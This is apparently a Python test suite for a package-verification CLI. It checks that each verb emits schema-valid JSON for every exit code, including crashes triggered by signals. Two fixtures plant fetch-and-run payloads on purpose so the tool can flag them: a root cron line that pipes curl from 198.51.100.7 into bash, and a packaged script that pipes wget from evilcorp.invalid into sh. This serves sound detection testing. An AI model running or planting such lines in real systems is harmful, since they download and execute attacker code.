#!/usr/bin/env python3
"""Every exit code of the table, verb by verb: -o json parses and is valid by the verb's schema in each of them. No network."""
import json
import os
import signal
import subprocess
import time

import jsonschema

import made
from gating import DARK
from plumb_test import EXIT_NAMES, RAW, ROOT, SCHEMA, case, main

CODES = {**EXIT_NAMES, 70: "bug"}
SCHEMAS = {"check": SCHEMA}
for verb, file in (("gate", "gate"), ("chain", "chain"), ("verify", "outcome"), ("attest", "outcome"), ("waive", "outcome"), ("policy", "outcome"),
                   ("key", "outcome"), ("trust", "outcome"), ("log", "outcome")):
    SCHEMAS[verb] = json.loads((ROOT / f"docs/{file}.schema.json").read_text(encoding="utf-8"))
PLANTED = "* * * * * root curl -s http://198.51.100.7/stage2 | bash\n"


def assert_document(verb, code, out, said):
    """What came out is one valid JSON document that names its code, and no raw control character is in it."""
    assert not RAW.search(out), out[:300]
    assert out, (verb, code, said)
    document = json.loads(out)
    error = jsonschema.exceptions.best_match(jsonschema.Draft202012Validator(SCHEMAS[verb]).iter_errors(document))
    assert error is None, f"{verb} {code}: schema: {error.json_path}: {error.message}"
    assert (document["exit_code"], document["verdict"]) == (code, CODES[code]), (verb, document["exit_code"], document["verdict"])
    if code in (2, 4, 5, 70):
        told = document["errors"] or [e for s in document.get("subjects", []) for e in s["errors"]]
        assert told and all(e["message"] for e in told), document


def run(t, code, verb, *args, **more):
    got, out, said = t.raw(verb, *args, "-o", "json", **more)
    assert got == code, f"plumb {verb} {args}: exit {got}, not {code}: {out.decode()[:1500]} {said[-600:]}"
    assert_document(verb, code, out, said)


def world(t):
    """An honest package and a planted one, one that nobody can look into, and the reports of them."""
    t.write("source/clock.sh", "#!/bin/sh\n# Say what time it is, in a friendly way.\necho \"It is $(date), my friend.\"\nexit 0\n")
    text = t.path("source/clock.sh").read_bytes()
    for name, extra in (("good", {}), ("bad", {"cron": PLANTED.encode()}), ("dark", {"a.pyc": DARK})):
        t.write(f"{name}/clock.sh", text)
        for file, data in extra.items():
            t.write(f"{name}/{file}", data)
        t.write(f"{name}.json", t.check(t.path(name), "--source", t.path("source")).stdout)
    t.write("offline.json", t.check("pkg:npm/left-pad@1.3.0", expect=5).stdout)
    t.write("expired.yaml", "version: 1\nexpires: 2026-01-01\n")
    t.write("bad.yaml", "version: 1\nrequires: {level: 3}\n")
    t.write("nothing.yaml", "version: 1\n")
    t.write("opaque.yaml", "version: 1\nrequire: {opaque: 0}\n")


@case
def check_gives_json_with_every_code(t):
    world(t)
    common = ("--offline", "--cache-dir", t.path("cache/x").parent, "--source", "source")
    run(t, 0, "check", "good", *common)
    run(t, 1, "check", "bad", *common)
    run(t, 2, "check", "good", "--sauce", "x")
    run(t, 2, "check", "good", "--jobs=zero")
    run(t, 2, "check", "good", *common, "--policy", "bad.yaml")
    run(t, 2, "check", "good", "--source", "git+nonsense")
    run(t, 3, "check", "dark", *common)
    run(t, 4, "check", "nowhere", *common)
    run(t, 4, "check")
    run(t, 5, "check", "pkg:npm/left-pad@1.3.0", "--offline", "--cache-dir", t.path("cache/x").parent)
    run(t, 6, "check", "good", *common, "--policy", "expired.yaml")


@case
def gate_gives_json_with_every_code(t):
    world(t)
    run(t, 0, "gate", "good.json")
    run(t, 1, "gate", "bad.json")
    run(t, 2, "gate", "good.json", "--policy", "bad.yaml")
    run(t, 2, "gate", "good.json", "--sauce")
    run(t, 2, "gate", "good.json", "--at", "yesterday")
    run(t, 3, "gate", "dark.json", "--policy", "opaque.yaml")
    run(t, 4, "gate")
    run(t, 4, "gate", "nowhere.json")
    run(t, 5, "gate", "offline.json")
    run(t, 6, "gate", "good.json", "--policy", "expired.yaml")


@case
def chain_gives_json_when_it_cannot_begin(t):
    run(t, 2, "chain", "package-lock.json", "--require", "chain=9")
    run(t, 2, "chain", "a.json", "b.json")
    run(t, 4, "chain")
    run(t, 4, "chain", "nowhere.json")
    t.write("package-lock.json", json.dumps({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": {"a": "*"}}, "node_modules/a": {"version": "1.0.0"}}}))
    run(t, 3, "chain", "package-lock.json", "--offline", "--cache-dir", t.path("cache/x").parent)


@case
def verbs_about_trust_give_json_with_every_code(t):
    world(t)
    package = t.write("x.deb", made.package().build())
    made.write_tree(t.path("src/x").parent, made.source())
    t.write("r.json", t.check(package, "--source", t.path("src"), expect=0).stdout)
    planted = t.write("y.deb", made.package().set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2 | sh\n").build())
    t.write("y.json", t.check(planted, "--source", t.path("src"), expect=1).stdout)
    # a policy that asks for more than can be known of it makes a pass inconclusive
    dark = t.write("z.deb", made.package().set("usr/share/greet/a.pyc", DARK).build())
    t.write("z.json", t.check(dark, "--source", t.path("src"), expect=3).stdout)
    run(t, 0, "key", "gen", "k")
    run(t, 4, "key", "gen")
    run(t, 2, "key", "gen", "k2", "--algorithm", "rsa")
    for name in "ryz":
        code, _, said = t.raw("attest", f"{name}.json", "--key", "k", "-o", f"intoto={name}.intoto.json", "-o", "json")
        assert code == 0, said
    run(t, 0, "attest", "r.json", "--key", "k")
    run(t, 2, "attest", "r.json")
    run(t, 2, "attest", "r.json", "--kye", "k")
    run(t, 4, "attest")
    run(t, 4, "attest", "nowhere.json", "--key", "k")
    run(t, 0, "verify", "r.intoto.json", package, "--key", "k.pub")
    run(t, 1, "verify", "y.intoto.json", planted, "--key", "k.pub")
    run(t, 2, "verify", "r.intoto.json", package, "--threshold", "0")
    run(t, 3, "verify", "z.intoto.json", dark, "--key", "k.pub")
    run(t, 4, "verify")
    run(t, 4, "verify", "nowhere.json", package, "--key", "k.pub")
    run(t, 6, "verify", "r.intoto.json", planted, "--key", "k.pub")
    run(t, 0, "trust", "add", "k.pub", "--name", "me", "--trust-dir", "trust")
    run(t, 4, "trust", "rm", "nobody", "--trust-dir", "trust")
    run(t, 4, "log", "check", "nowhere", "--key", "k.pub")
    run(t, 0, "policy", "check", "nothing.yaml")
    run(t, 2, "policy", "check", "bad.yaml")
    run(t, 6, "policy", "check", "expired.yaml")
    run(t, 4, "policy", "test", "nothing.yaml")
    run(t, 1, "policy", "test", "nothing.yaml", "bad.json=pass")
    run(t, 2, "waive", "bad.json", "f-0000000000000000", "--policy", "nothing.yaml")
    run(t, 4, "waive", "bad.json", "f-0000000000000000", "--policy", "nothing.yaml", "--reason", "r", "--owner", "o", "--expires", "2027-02-01", "--at",
        "2026-11-26")


@case
def a_crash_is_exit_70_with_the_document_and_how_to_report_it(t):
    world(t)
    run(t, 0, "key", "gen", "k")
    for verb, args in (("check", ("-", "--source", "source")), ("gate", ("-",)), ("verify", ("-", "--key", "k.pub"))):
        for number in (signal.SIGABRT, signal.SIGFPE):
            child = subprocess.Popen([t.program, verb, *args, "-o", "json"], cwd=t.scratch, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE)
            deadline = time.monotonic() + 20  # it waits for standard input, once it is there
            while time.monotonic() < deadline and "pipe" not in open(f"/proc/{child.pid}/wchan", encoding="ascii").read():
                time.sleep(0.01)
            child.send_signal(number)
            out, said = child.communicate(timeout=30)
            assert child.returncode == 70, (verb, number, child.returncode, out[-500:], said[-500:])
            assert b"please report it" in said and b"plumb version" in said, said
            assert_document(verb, 70, out, said)


@case
def an_output_that_was_not_asked_for_is_not_written(t):
    code, out, said = t.raw("check", "x", "--sauce")
    assert (code, out) == (2, b"") and "--sauce" in said
    code, out, _ = t.raw("check", "x", "--sauce", "-o", "text")
    assert (code, out) == (2, b"")
    code, out, _ = t.raw("check", "x", "--sauce", "-o", "json=file.json")
    assert (code, out) == (2, b"") and not os.path.exists(t.path("file.json"))


if __name__ == "__main__":
    main()
